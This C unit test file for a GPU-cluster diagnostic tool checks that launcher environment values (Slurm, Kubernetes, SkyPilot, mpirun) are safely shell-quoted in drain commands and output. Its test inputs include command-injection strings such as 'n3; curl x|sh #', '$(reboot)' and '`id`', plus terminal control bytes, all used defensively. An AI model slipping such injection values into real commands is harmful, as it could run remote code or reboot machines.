/* The launcher table (diag/pairs/pairs_launch.c): every row read from a
 * fake environment, its drain command, --where's lines, and hostile values
 * (a node name that is a shell command, spaces, terminal controls) that
 * must never reach a printed command or a script unquoted. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "errors.h"
#include "pairs_launch.h"

static const char *const *env_table;

static const char *fake_env(const char *name)
{
	for (const char *const *e = env_table; e && *e; e += 2)
		if (!strcmp(e[0], name))
			return e[1];
	return NULL;
}

static const struct fc_launcher *row_named(const char *name)
{
	for (const struct fc_launcher *r = fc_launchers;; r++) {
		if (!strcmp(r->name, name))
			return r;
		if (!strcmp(r->name, "manual"))
			return NULL;
	}
}

/* A shell word as bash reads it, for the three forms fc_shell_quote
 * writes: plain, '...' (with '\'' joins) and $'...' (\ooo, \', \\).
 * -1 when the word is something else: then it was not quoted as promised. */
static int shell_read(const char *w, char *out, size_t len)
{
	size_t o = 0;

	while (*w) {
		if (*w == '\'') {
			const char *end = strchr(w + 1, '\'');
			if (!end || o + (size_t)(end - w - 1) >= len)
				return -1;
			memcpy(out + o, w + 1, (size_t)(end - w - 1));
			o += (size_t)(end - w - 1);
			w = end + 1;
		} else if (w[0] == '$' && w[1] == '\'') {
			for (w += 2; *w != '\''; w++) {
				if (!*w || o + 1 >= len)
					return -1;
				if (*w == '\\') {
					w++;
					if (*w >= '0' && *w <= '7') {
						out[o++] = (char)strtol((char[]){w[0], w[1], w[2], 0}, NULL, 8);
						w += 2;
					} else if (*w == '\'' || *w == '\\') {
						out[o++] = *w;
					} else {
						return -1;
					}
				} else {
					out[o++] = *w;
				}
			}
			w++;
		} else if (*w == '\\' && w[1] == '\'') {
			if (o + 1 >= len)
				return -1;
			out[o++] = '\'';
			w += 2;
		} else {
			/* outside quotes only characters no shell treats specially */
			if (!strchr("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789%+,./:@_-=", *w) ||
			    o + 1 >= len)
				return -1;
			out[o++] = *w++;
		}
	}
	out[o] = '\0';
	return 0;
}

/* nothing a terminal acts on, nor a byte that is not printable ASCII */
static void assert_plain_ascii(const char *s)
{
	for (const unsigned char *p = (const unsigned char *)s; *p; p++)
		assert_true(*p == '\n' || (*p >= 0x20 && *p < 0x7f));
}

static const char *const hostile[] = {
	"n3; curl x|sh #", "a b", "n3\xc2\x9b" "31m", "n\xe2\x80\xae" "evil", "it's", "back\\slash", "$(reboot)", "`id`",
	"a\nb", "*", "~root", "x=y z", "\x9b", "",
};

static void quoted_words_read_back_as_they_were(void **st)
{
	char q[512], back[256];
	(void)st;
	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		assert_non_null(fc_shell_quote(q, sizeof(q), hostile[i]));
		assert_plain_ascii(q);
		assert_int_equal(shell_read(q, back, sizeof(back)), 0);
		assert_string_equal(back, hostile[i]);
	}
	/* plain values stay as they are; the others are quoted as printf %q would */
	assert_string_equal(fc_shell_quote(q, sizeof(q), "ip-10-0-0-2.ec2.internal"), "ip-10-0-0-2.ec2.internal");
	assert_string_equal(fc_shell_quote(q, sizeof(q), "n3; curl x|sh #"), "'n3; curl x|sh #'");
	assert_string_equal(fc_shell_quote(q, sizeof(q), "it's"), "'it'\\''s'");
	assert_string_equal(fc_shell_quote(q, sizeof(q), "n3\xc2\x9b"), "$'n3\\302\\233'");
	assert_string_equal(fc_shell_quote(q, sizeof(q), ""), "''");
	/* too small: nothing half-quoted */
	assert_null(fc_shell_quote(q, 5, "a b c"));
	assert_null(fc_shell_quote(q, 4, "abcd"));
}

static void every_row_has_a_name_and_detect_and_manual_is_last(void **st)
{
	size_t n = 0;
	(void)st;
	for (const struct fc_launcher *r = fc_launchers;; r++, n++) {
		char q[64];
		assert_non_null(r->name);
		assert_non_null(r->detect);
		/* --where prints names bare: they must need no quoting */
		assert_string_equal(fc_shell_quote(q, sizeof(q), r->name), r->name);
		for (const struct fc_launcher *s = fc_launchers; s < r; s++)
			assert_string_not_equal(s->name, r->name);
		if (r->drain)
			assert_non_null(strstr(r->drain, "{node}"));
		if (!strcmp(r->name, "manual"))
			break;
	}
	assert_true(n >= 4);
	env_table = NULL;
	assert_true(row_named("manual")->detect(fake_env));
}

static void each_launcher_row_from_its_environment(void **st)
{
	static const char *const ompi[] = {"OMPI_COMM_WORLD_RANK", "3", "OMPI_COMM_WORLD_SIZE", "8",
					   "OMPI_MCA_orte_hnp_uri", "1540751360.0;tcp://10.1.2.3:35747", "FABCHECK_JOB_ID",
					   "run-7", NULL};
	static const char *const sky[] = {"SKYPILOT_NODE_RANK", "1", "SKYPILOT_NUM_NODES", "2", "SKYPILOT_NODE_IPS",
					  "172.31.0.10\n172.31.0.11\n", "SKYPILOT_TASK_ID", "sky-2024-x_1",
					  "SKYPILOT_NUM_GPUS_PER_NODE", "8", NULL};
	static const char *const slurm[] = {"SLURM_PROCID", "2", "SLURM_NTASKS", "16", "SLURM_JOB_NODELIST",
					    "gpu-st-p5-[007-010,012]", "SLURM_JOB_ID", "4242", "SLURMD_NODENAME",
					    "gpu-st-p5-009", "SLURM_GPUS_ON_NODE", "8", "SLURM_JOB_NUM_NODES", "32", NULL};
	static const char *const k8s[] = {"JOB_COMPLETION_INDEX", "2", "FABCHECK_NODES", "4", "FABCHECK_COORDINATOR",
					  "fabcheck-preflight-0.fabcheck-preflight", "FABCHECK_NODE_NAME",
					  "ip-10-0-0-2.ec2.internal", NULL};
	static const char *const manual[] = {"FABCHECK_NODE_NAME", "", "FABCHECK_JOB_ID", "", NULL};
	struct fc_launch l;
	(void)st;

	env_table = ompi;
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, NULL), 0);
	assert_ptr_equal(l.row, row_named("mpirun"));
	assert_true(l.rank == 3 && l.nodes == 8 && l.gpus_per_node == -1);
	assert_string_equal(l.coord, "10.1.2.3");
	assert_string_equal(l.job_id, "run-7"); /* mpirun has none: FABCHECK_JOB_ID */
	assert_string_equal(l.node_name, "");
	assert_null(l.row->drain);

	env_table = sky;
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, NULL), 0);
	assert_string_equal(l.launcher, "skypilot");
	assert_true(l.rank == 1 && l.nodes == 2 && l.gpus_per_node == 8);
	assert_string_equal(l.coord, "172.31.0.10");
	assert_string_equal(l.job_id, "sky-2024-x_1");
	assert_string_equal(l.hosts, "172.31.0.10,172.31.0.11");
	assert_null(l.row->drain); /* SkyPilot has no scheduler to drain with */

	env_table = slurm;
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, NULL), 0);
	assert_string_equal(l.launcher, "slurm");
	assert_true(l.rank == 2 && l.nodes == 16 && l.gpus_per_node == 8);
	/* the job has 32 nodes, this run 16: the coordinator says so */
	assert_int_equal(l.job_nodes, 32);
	assert_string_equal(l.coord, "gpu-st-p5-007");
	assert_string_equal(l.job_id, "4242");
	assert_string_equal(l.node_name, "gpu-st-p5-009");

	env_table = k8s;
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, NULL), 0);
	assert_string_equal(l.launcher, "kubernetes");
	assert_true(l.rank == 2 && l.nodes == 4 && l.coord_port == FC_PAIRS_PORT);
	assert_string_equal(l.coord, "fabcheck-preflight-0.fabcheck-preflight");
	assert_string_equal(l.node_name, "ip-10-0-0-2.ec2.internal");

	/* empty values (a manifest's value: "") are unset; the command line says it all */
	env_table = manual;
	assert_int_equal(fc_launch_detect(&l, fake_env, 1, 2, "10.0.0.1:47700"), 0);
	assert_string_equal(l.launcher, "manual");
	assert_true(l.rank == 1 && l.nodes == 2 && l.coord_port == 47700);
	assert_true(!*l.job_id && !*l.node_name && !*l.hosts);
	assert_null(l.row->drain);
	/* the command line beats the launcher */
	env_table = slurm;
	assert_int_equal(fc_launch_detect(&l, fake_env, 0, 2, "h0"), 0);
	assert_true(l.rank == 0 && l.nodes == 2);
	assert_string_equal(l.coord, "h0");
}

static void drain_commands_name_the_node_quoted_for_the_launcher_that_runs(void **st)
{
	const struct fc_launcher *slurm = row_named("slurm"), *k8s = row_named("kubernetes");
	char cmd[512], back[256];
	(void)st;
	assert_int_equal(fc_launch_drain(slurm, "gpu-st-p5-009", "fabcheck-pairs: fail", cmd, sizeof(cmd)), 0);
	assert_string_equal(cmd, "scontrol update NodeName=gpu-st-p5-009 State=DRAIN Reason='fabcheck-pairs: fail'");
	assert_int_equal(fc_launch_drain(k8s, "ip-10-0-0-2.ec2.internal", "x", cmd, sizeof(cmd)), 0);
	assert_string_equal(cmd, "kubectl cordon ip-10-0-0-2.ec2.internal");
	/* launchers without a scheduler print none; nor does an unknown node */
	assert_int_equal(fc_launch_drain(row_named("mpirun"), "n1", "x", cmd, sizeof(cmd)), -1);
	assert_int_equal(fc_launch_drain(row_named("skypilot"), "n1", "x", cmd, sizeof(cmd)), -1);
	assert_int_equal(fc_launch_drain(row_named("manual"), "n1", "x", cmd, sizeof(cmd)), -1);
	assert_int_equal(fc_launch_drain(slurm, "", "x", cmd, sizeof(cmd)), -1);
	assert_int_equal(fc_launch_drain(slurm, "n1", "x", cmd, 20), -1); /* does not fit: none, not a cut one */
	/* hostile names: one shell word each, read back as they were */
	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		if (!*hostile[i])
			continue;
		assert_int_equal(fc_launch_drain(k8s, hostile[i], NULL, cmd, sizeof(cmd)), 0);
		assert_plain_ascii(cmd);
		assert_memory_equal(cmd, "kubectl cordon ", 15);
		assert_int_equal(shell_read(cmd + 15, back, sizeof(back)), 0);
		assert_string_equal(back, hostile[i]);
	}
	assert_int_equal(fc_launch_drain(slurm, "n3; curl x|sh #", "fabcheck-pairs: fail", cmd, sizeof(cmd)), 0);
	assert_string_equal(cmd, "scontrol update NodeName='n3; curl x|sh #' State=DRAIN Reason='fabcheck-pairs: fail'");
	assert_int_equal(fc_launch_drain(slurm, "n3\xc2\x9b", "fabcheck-pairs: fail", cmd, sizeof(cmd)), 0);
	assert_string_equal(cmd, "scontrol update NodeName=$'n3\\302\\233' State=DRAIN Reason='fabcheck-pairs: fail'");
}

/* --where's lines: KEY=WORD, each WORD one shell word that reads back as
 * the value */
static void where_prints_every_value_one_shell_word_each(void **st)
{
	static const char *const evil[] = {"SLURM_PROCID", "1", "SLURM_NTASKS", "4", "SLURM_JOB_NODELIST", "n[01-04]",
					   "SLURM_JOB_ID", "4; curl x|sh #", "SLURMD_NODENAME", "n3 \xc2\x9b\xe2\x80\xae",
					   NULL};
	struct fc_launch l;
	char *text = NULL, back[256], *line, *save = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&text, &len);
	int seen = 0;
	(void)st;
	env_table = evil;
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, NULL), 0);
	assert_int_equal(fc_launch_where(&l, f), 0);
	fclose(f);
	assert_plain_ascii(text);
	for (line = strtok_r(text, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char *eq = strchr(line, '=');
		assert_non_null(eq);
		*eq = '\0';
		assert_int_equal(shell_read(eq + 1, back, sizeof(back)), 0);
		if (!strcmp(line, "launcher"))
			assert_string_equal(back, "slurm"), seen |= 1;
		else if (!strcmp(line, "rank"))
			assert_string_equal(back, "1"), seen |= 2;
		else if (!strcmp(line, "nodes"))
			assert_string_equal(back, "4"), seen |= 4;
		else if (!strcmp(line, "coordinator"))
			assert_string_equal(back, "n01:47600"), seen |= 8;
		else if (!strcmp(line, "job_id"))
			assert_string_equal(back, "4; curl x|sh #"), seen |= 16;
		else if (!strcmp(line, "node_name"))
			assert_string_equal(back, "n3 \xc2\x9b\xe2\x80\xae"), seen |= 32;
		else if (!strcmp(line, "hosts")) /* Slurm's list, expanded */
			assert_string_equal(back, "n01,n02,n03,n04"), seen |= 64;
		else if (!strcmp(line, "gpus_per_node"))
			assert_string_equal(back, ""), seen |= 128;
		else
			fail_msg("unexpected key %s", line);
	}
	assert_int_equal(seen, 255);
	free(text);
}

static void hostile_or_oversized_launcher_values_are_refused(void **st)
{
	static const char *const bad_coord[] = {"JOB_COMPLETION_INDEX", "1", "FABCHECK_NODES", "2",
						"FABCHECK_COORDINATOR", "p0;reboot", NULL};
	static const char *const bad_ips[] = {"SKYPILOT_NODE_RANK", "1", "SKYPILOT_NUM_NODES", "2", "SKYPILOT_NODE_IPS",
					      "$(id)\n10.0.0.2\n", NULL};
	static const char *const huge[] = {"SLURM_PROCID", "5000", "SLURM_NTASKS", "100000", "SLURM_JOB_NODELIST", "n1",
					   NULL};
	static char longname[400];
	struct fc_launch l;
	(void)st;
	env_table = bad_coord;
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, NULL), -FC_EXIT_USAGE);
	env_table = bad_ips;
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, NULL), -FC_EXIT_USAGE);
	/* more nodes than the coordinator can hold (one pollfd each) */
	env_table = huge;
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, NULL), -FC_EXIT_USAGE);
	/* a coordinator too long for the buffer is refused, not cut */
	memset(longname, 'a', sizeof(longname) - 1);
	env_table = NULL;
	assert_int_equal(fc_launch_detect(&l, fake_env, 1, 2, longname), -FC_EXIT_USAGE);
}

/* rank 0's list as PMIx gives it: what another node shares with this one
 * (docker0) is never the way to rank 0; one host keeps the whole list */
static void own_addresses_are_dropped_unless_all_are_own(void **st)
{
	char out[256];
	(void)st;
	fc_drop_own_addresses("172.17.0.1,10.0.1.5", "10.0.1.9,172.17.0.1", out, sizeof(out));
	assert_string_equal(out, "10.0.1.5");
	fc_drop_own_addresses("10.0.1.5,10.0.2.5", "10.0.1.55", out, sizeof(out));
	assert_string_equal(out, "10.0.1.5,10.0.2.5");
	fc_drop_own_addresses("10.0.1.5,10.0.2.5", "10.0.2.5,10.0.1.5", out, sizeof(out));
	assert_string_equal(out, "10.0.1.5,10.0.2.5");
}

/* --coordinator :PORT keeps the launcher's host and takes the port */
static void coordinator_port_alone_keeps_the_launchers_host(void **st)
{
	static const char *const sky[] = {"SKYPILOT_NODE_RANK", "1", "SKYPILOT_NUM_NODES", "2", "SKYPILOT_NODE_IPS",
					  "10.0.0.7\n10.0.0.8\n", NULL};
	struct fc_launch l;
	(void)st;
	env_table = sky;
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, ":47999"), 0);
	assert_string_equal(l.coord, "10.0.0.7");
	assert_int_equal(l.coord_port, 47999);
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, ":0"), -FC_EXIT_USAGE);
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, ":x"), -FC_EXIT_USAGE);
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, ":"), -FC_EXIT_USAGE);
	assert_int_equal(fc_launch_detect(&l, fake_env, -1, -1, ":65536"), -FC_EXIT_USAGE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(quoted_words_read_back_as_they_were),
		cmocka_unit_test(every_row_has_a_name_and_detect_and_manual_is_last),
		cmocka_unit_test(each_launcher_row_from_its_environment),
		cmocka_unit_test(drain_commands_name_the_node_quoted_for_the_launcher_that_runs),
		cmocka_unit_test(where_prints_every_value_one_shell_word_each),
		cmocka_unit_test(hostile_or_oversized_launcher_values_are_refused),
		cmocka_unit_test(own_addresses_are_dropped_unless_all_are_own),
		cmocka_unit_test(coordinator_port_alone_keeps_the_launchers_host),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
